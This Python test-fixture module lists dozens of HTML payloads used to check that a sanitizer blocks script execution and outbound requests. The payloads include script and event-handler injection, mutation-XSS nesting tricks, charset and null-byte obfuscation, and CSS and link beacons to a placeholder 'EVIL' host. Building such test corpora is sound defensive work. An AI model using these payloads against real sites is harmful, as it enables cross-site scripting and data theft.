"""Pages that try to run something, to ask the network, or to leave the frame that they are shown in.

``EVIL`` stands for the address of a server that must hear nothing. What runs says so as ``hit`` of every
window that it reaches.
"""

from __future__ import annotations

from base64 import b64encode

EVIL = "EVIL"
_RUN = (
    "try{top.hit=1}catch(e){};window.hit=1;parent.postMessage('hit','*');new Image().src='EVIL/ran'"
)
_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg'><script>"
    + _RUN
    + "</script><image href='EVIL/svg'/></svg>"
)
_SVG64 = b64encode(_SVG.encode()).decode()

RUNNING = {
    "script": f"<script>{_RUN}</script>",
    "script of another case": f"<ScRiPt/x>{_RUN}</sCrIpT  >",
    "script of another server": "<script src=EVIL/x.js></script><script type=module src=EVIL/m.js></script>",
    "script unclosed": f"<script>{_RUN}",
    "script within a script's comment": f"<script><!--<script></script>--><img src=x onerror=\"{_RUN}\">",
    "script of a drawing": f"<svg><script>{_RUN}</script><script href=EVIL/x.js /></svg>",
    "script of a drawing's text": f"<svg><text><tspan><script>{_RUN}</script></tspan></text></svg>",
    "picture that fails": f"<img src=x: onerror=\"{_RUN}\"><img src=/ onerror={_RUN!r}>",
    "drawing that loads": f"<svg onload=\"{_RUN}\"><g onload=\"{_RUN}\" /></svg>",
    "body that loads": f"<body onload=\"{_RUN}\" onpageshow=\"{_RUN}\" onfocus=\"{_RUN}\">",
    "two bodies": f"<body class=a><p>x</p><body onload=\"{_RUN}\" style='background:url(EVIL/b)'>",
    "details that open": f"<details ontoggle=\"{_RUN}\" open><summary>x</summary></details>",
    "field in focus": f"<input autofocus onfocus=\"{_RUN}\"><textarea autofocus onfocus=\"{_RUN}\">x</textarea>",
    "select in focus": f"<select autofocus onfocus=\"{_RUN}\"><option>a</select><keygen autofocus onfocus=\"{_RUN}\">",
    "animation": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart=\"{_RUN}\">x",
    "transition": f"<p style='transition:color 1s' ontransitionend=\"{_RUN}\" onwebkittransitionend=\"{_RUN}\">x",
    "drawing that animates": f"<svg><animate onbegin=\"{_RUN}\" attributeName=x dur=1s /><set attributeName=onmouseover to=\"{_RUN}\" /></svg>",
    "animated address": f"<svg><a><animate attributeName=href values=\"javascript:{_RUN}\" /><text y=20>x</text></a></svg>",
    "animated picture": "<svg><image><set attributeName=href to=EVIL/set begin=0s /></image></svg>",
    "marquee": f"<marquee onstart=\"{_RUN}\" loop=1>x</marquee>",
    "film": f"<video src=EVIL/v poster=EVIL/p autoplay onerror=\"{_RUN}\"><source src=EVIL/s onerror=\"{_RUN}\"></video>",
    "sound": f"<audio src=EVIL/a autoplay controls onerror=\"{_RUN}\"></audio>",
    "handler of no name": f"<img/src='x:'/onerror=\"{_RUN}\"><x onclick=\"{_RUN}\" onpointerrawupdate=\"{_RUN}\">x",
    "handler behind a slash": f"<a/onmouseover=\"{_RUN}\"\x0confocus=\"{_RUN}\" tabindex=1 autofocus>x",
    "frame of its own text": f"<iframe srcdoc=\"<script>{_RUN}</script><img src=EVIL/d>\"></iframe>",
    "frame of a script": f"<iframe src=\"javascript:{_RUN}\"></iframe><iframe src='java\tscript:top.hit=1'></iframe>",
    "frame of data": f"<iframe src=\"data:text/html,<script>{_RUN}</script>\"></iframe>",
    "frame of another server": "<iframe src=EVIL/f></iframe><frame src=EVIL/g><fencedframe src=EVIL/h></fencedframe>",
    "set of frames": f"<frameset onload=\"{_RUN}\"><frame src=EVIL/f><frame src=\"javascript:{_RUN}\"></frameset>",
    "portal": "<portal src=EVIL/p></portal><webview src=EVIL/w></webview>",
    "object": f"<object data=EVIL/o><img src=EVIL/oi></object><object data=\"data:text/html,<script>{_RUN}</script>\"></object>",
    "embed": f"<embed src=EVIL/e><embed src=\"javascript:{_RUN}\"><applet code=EVIL/j archive=EVIL/k></applet>",
    "plug-in's parameters": "<object classid=clsid:1><param name=movie value=EVIL/m></object>",
    "template with a shadow": f"<div><template shadowrootmode=open><img src=EVIL/t onerror=\"{_RUN}\"></template></div>",
    "template": f"<template><img src=EVIL/t onerror=\"{_RUN}\"></template>",
    "without scripts": f"<noscript><p title=\"</noscript><img src=x: onerror='{_RUN}'>\"></noscript>",
    "without frames": f"<noframes><p title=\"</noframes><img src=x: onerror='{_RUN}'>\"></noframes>",
    "without embedding": f"<noembed><p title=\"</noembed><img src=x: onerror='{_RUN}'>\"></noembed>",
    "text areas": f"<textarea></textarea><script>{_RUN}</script></textarea><xmp></xmp><img src=x: onerror=\"{_RUN}\"></xmp>",
    "plaintext": f"<plaintext></plaintext><img src=x: onerror=\"{_RUN}\">",
    "title": f"<title></title><img src=x: onerror=\"{_RUN}\"></title>",
    "comment": f"<!--><img src=x: onerror=\"{_RUN}\">--><!-- --!><img src=x: onerror=\"{_RUN}\"><!---><script>{_RUN}</script>",
    "sections of CDATA": f"<svg><![CDATA[</svg><img src=x: onerror=\"{_RUN}\">]]></svg><![CDATA[<img src=x: onerror=\"{_RUN}\">]]>",
    "processing instructions": f"<?xml-stylesheet href=EVIL/x.xsl?><?<img src=x: onerror=\"{_RUN}\">?>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc=\"<script>{_RUN}</script>\"></iframe><body onload=\"{_RUN}\"></foreignObject></svg>",
    "title of a drawing": f"<svg><title><img src=x: onerror=\"{_RUN}\"></title><desc><img src=x: onerror=\"{_RUN}\"></desc></svg>",
    "formula's mutation": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror={_RUN}&gt;\">",
    "formula and style": f"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=\"{_RUN}\">",
    "formula's annotation": f"<math><annotation-xml encoding=\"text/html\"><style><img src=x: onerror=\"{_RUN}\"></style></annotation-xml></math>",
    "formula that leads": f"<math href=\"javascript:{_RUN}\"><mi xlink:href=\"javascript:{_RUN}\">x</mi></math>",
    "drawing's style mutation": f"<svg></p><style><a id=\"</style><img src=x: onerror={_RUN!r}>\">",
    "paragraph's mutation": f"<svg><p><style><g title=\"</style><img src=x: onerror={_RUN!r}>\">",
    "list's mutation": f"<math><mi><table><mi><mglyph><style><a title=\"</style><img src=x: onerror={_RUN!r}>\">",
    "select's mutation": f"<select><style></select><img src=x: onerror=\"{_RUN}\"></style>",
    "table's mutation": f"<table><tr><style></table><img src=x: onerror=\"{_RUN}\"></style>",
    "grave accents": "<p title=``onmouseover=alert(1)>x</p><img alt=\"`` onerror=window.hit=1 src=x:\">",
    "custom element": f"<x-y onclick=\"{_RUN}\" is=z>x</x-y><button is=x-z onclick=\"{_RUN}\" autofocus onfocus=\"{_RUN}\">y</button>",
    "popover": f"<button popovertarget=p autofocus>x</button><div popover id=p onbeforetoggle=\"{_RUN}\">y</div>",
    "command": f"<button commandfor=d command=show-modal>x</button><dialog id=d open oncommand=\"{_RUN}\" oncancel=\"{_RUN}\">y</dialog>",
    "named as the document's": "<form id=documentElement name=body><input name=attributes><img name=cookie><a id=location href=EVIL/l>x</a></form>",
    "deep": "<div>" * 5_000 + f"<script>{_RUN}</script>" + "<svg>" * 500 + f"<script>{_RUN}</script>",
    "bytes of another charset": "<meta charset=utf-7>+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "escape sequences": "<meta charset=iso-2022-jp>\x1b$B<script>window.hit=1</script>\x1b(B<p>El texto de la p&aacute;gina",
    "signs of nothing": f"<scr\0ipt>{_RUN}</scr\0ipt><img src=x: on\0error=\"{_RUN}\"><a href=\"java\0script:{_RUN}\">x</a>",
}  # fmt: skip
"""What would run."""
ASKING = {
    "picture": "<img src=EVIL/i><img srcset='EVIL/s 2x' src=EVIL/i2><img src=//EVILHOST/rel><input type=image src=EVIL/ii>",
    "picture that comes late": "<img data-src=EVIL/late loading=lazy><img lowsrc=EVIL/low dynsrc=EVIL/dyn longdesc=EVIL/long>",
    "picture's sources": "<picture><source srcset='EVIL/s1 1x, EVIL/s2 2x'><img src=EVIL/s3></picture>",
    "backgrounds": "<body background=EVIL/b><table background=EVIL/t><td background=EVIL/d>x</table>",
    "base": "<base href=EVIL/base/><img src=rel.png><a href=x>x</a>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/r'><meta http-equiv='Refresh' content=\"0; URL='EVIL/r2'\">",
    "links": "<link rel=stylesheet href=EVIL/c><link rel='prefetch' href=EVIL/p><link rel=preconnect href=EVIL>"
             "<link rel=dns-prefetch href=EVIL><link rel=preload as=image href=EVIL/pl><link rel=icon href=EVIL/ic>"
             "<link rel=manifest href=EVIL/m><link rel=modulepreload href=EVIL/mp><link rel=prerender href=EVIL/pr>"
             "<link rel=import href=EVIL/im><link rel=search href=EVIL/se><link rel=compression-dictionary href=EVIL/cd>",
    "speculation": '<script type=speculationrules>{"prerender":[{"urls":["EVIL/s"]}]}</script>',
    "report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri EVIL/csp\"><img src=EVIL/x>",
    "ping": "<a href='#x' ping=EVIL/ping id=x autofocus>x</a><area ping=EVIL/p2 href=#x>",
    "map": "<img src=EVIL/m usemap=#m><map name=m><area href=EVIL/area shape=default></map>",
    "form": "<form action=EVIL/f id=f><input name=a autofocus><button formaction=EVIL/g>x</button></form><input form=f type=submit>",
    "attribution": "<img attributionsrc=EVIL/at src=EVIL/x><a attributionsrc=EVIL/at2 href=#>x</a>",
    "style's import": "<style>@import url(EVIL/1);@import 'EVIL/2';@IMPORT \"EVIL/3\" screen;@\\69mport url(EVIL/4);</style>",
    "style's addresses": "<style>body{background:url(EVIL/1),url( 'EVIL/2' )}p{list-style:u\\72l(EVIL/3);cursor:url(EVIL/4),auto;"
                         "content:url(EVIL/5)}p::before{content:URL(EVIL/6)}*{border-image:url(EVIL/7) 1}</style><p>x",
    "style's sets": "<style>p{background:image-set('EVIL/1' 1x,url(EVIL/2) 2x)}h1{background:-webkit-image-set(url(EVIL/3) 1x)}"
                    "h2{background:-webkit-cross-fade(url(EVIL/4),url(EVIL/5),50%)}</style><p>x<h1>y</h1><h2>z</h2>",
    "style's variables": "<style>:root{--u:'EVIL/1';--v:url(EVIL/2);--w:EVIL/3}p{background:image-set(var(--u) 1x)}"
                         "h1{background:var(--v)}h2{background:src(var(--u))}@property --p{syntax:'<url>';inherits:true;"
                         "initial-value:url(EVIL/4)}h3{background:var(--p)}</style><p>x<h1>y</h1><h2>z</h2><h3>w</h3>",
    "style's attributes": "<style>p{background:image-set(attr(title) 1x);background:attr(title type(<image>))}</style><p title=EVIL/1>x",
    "style's fonts": "<style>@font-face{font-family:x;src:url(EVIL/1);unicode-range:U+41}body{font-family:x}</style>AAA",
    "style's shapes": "<style>p{mask:url(EVIL/1);clip-path:url(EVIL/2#x);filter:url(EVIL/3#x);shape-outside:url(EVIL/4);float:left;"
                      "-webkit-mask-image:url(EVIL/5);-webkit-box-reflect:below 1px url(EVIL/6)}</style><p>x",
    "style's conditions": "<style>@media all{@supports(color:red){p{background:url(EVIL/1)}}}@layer a{p{background:url(EVIL/2)}}"
                          "@container(width>0){p{background:url(EVIL/3)}}p{&:not(x){background:url(EVIL/4)}}"
                          "@document url(EVIL){p{background:url(EVIL/5)}}@namespace x url(EVIL/6);</style><p>x",
    "style that ends early": "<style>p{content:'</style><img src=EVIL/1>'}</style><style><!-- p{background:url(EVIL/2)} --></style><p>x",
    "style that ends early by an escape": "<style>p{content:'<\\/style><img src=EVIL/1>';x:'\\3c/style><img src=EVIL/2>'}</style><p>x",
    "style that never ends": "<p>x</p><style>p{background:url(EVIL/1",
    "style of brackets": "<style>p{background:" + "(" * 3_000 + "url(EVIL/1)" + ")" * 3_000 + "}p{background:url(EVIL/2)}</style><p>x",
    "style in an attribute": "<p style='background:url(EVIL/1)'>x</p><p style=\"background:u\\rl('EVIL/2')\">y</p>"
                             "<p style='background:url(EVIL/3);} p{background:url(EVIL/4)'>z</p><p style='a:b}@import \"EVIL/5\"'>w</p>",
    "style of old browsers": "<p style='behavior:url(EVIL/1);-moz-binding:url(EVIL/2#x);width:expression(hit=1)'>x",
    "style for many": "<style>a[href^='x']{background:url(EVIL/1)}input[value^=a]{background:url(EVIL/2)}</style><a href=xy>x</a><input value=abc>",
    "scrolls and starts": "<style>@starting-style{p{background:url(EVIL/1)}}@scope(body){p{background:url(EVIL/2)}}"
                          "@view-transition{navigation:auto}@font-palette-values --x{font-family:y}</style><p>x",
    "drawing's pictures": "<svg><image href=EVIL/1 width=9 height=9 /><image xlink:href=EVIL/2 /><feImage href=EVIL/3 /></svg>",
    "drawing's uses": "<svg><use href=EVIL/1#x /><use xlink:href=EVIL/2#x /><script xlink:href=EVIL/3 /></svg>",
    "drawing's references": "<svg><rect width=9 height=9 fill='url(EVIL/1#x)' filter='url(EVIL/2#x)' mask='url(EVIL/3#x)' "
                            "clip-path='url(EVIL/4#x)' style='fill:url(EVIL/5#x)' cursor='url(EVIL/6)' marker-end='u\\72l(EVIL/7#x)' /></svg>",
    "drawing's style": "<svg><style>@import 'EVIL/1';rect{fill:url(EVIL/2#x)}</style><rect width=9 height=9 /></svg>",
    "drawing in an address": f"<img src=\"data:image/svg+xml;base64,{_SVG64}\"><p style='background:url(\"data:image/svg+xml;base64,{_SVG64}\")'>x",
    "drawing in a frame": f"<iframe src=\"data:image/svg+xml;base64,{_SVG64}\"></iframe><object data=\"data:image/svg+xml;base64,{_SVG64}\"></object>",
    "link that leaves": "<a href=EVIL/top target=_top id=a autofocus>x</a><a href='javascript:top.location=\"EVIL/j\"'>y</a>"
                        "<a href=EVIL/blank target=_blank rel=opener>z</a><a download href=EVIL/dl>d</a>",
    "link over everything": "<a href=EVIL/all target=_top style='position:fixed;inset:0;z-index:9'>&nbsp;</a>",
    "addresses of other schemes": "<img src=file:///etc/passwd><img src=blob:EVIL/1><img src='filesystem:EVIL/2'><img src=ftp://EVILHOST/x>"
                                  "<iframe src=view-source:EVIL/3></iframe><a href=intent://x#Intent;end>x</a>",
    "addresses with a fault": "<img src='http:\\\\EVILHOST/1'><img src=' \x01EVIL/2'><img src='EV\nIL/3'><img src='///EVILHOST/4'>",
    "our own names": "<p id=testigo-passage style='all:unset'>x</p><style>mark{display:none!important}.testigo-frame{position:fixed}</style>",
    "kept names of ours": "<img src='parts/" + "0" * 64 + ".png'><img src='page/1.png'><img src='../../other/'><a href='?page=2'>x</a>",
}  # fmt: skip
"""What would ask, or lead away."""
PAGES = {**RUNNING, **ASKING}


def page(html: str, evil: str) -> bytes:
    """The page of one of them; ``evil`` is the address of the server that must hear nothing."""
    told = html.replace("EVILHOST", evil.partition("://")[2]).replace(EVIL, evil)
    # every page begins like one, and some of them bring a beginning of their own
    return f"<!doctype html><title>Página</title><p>El texto de la página.</p>{told}".encode()
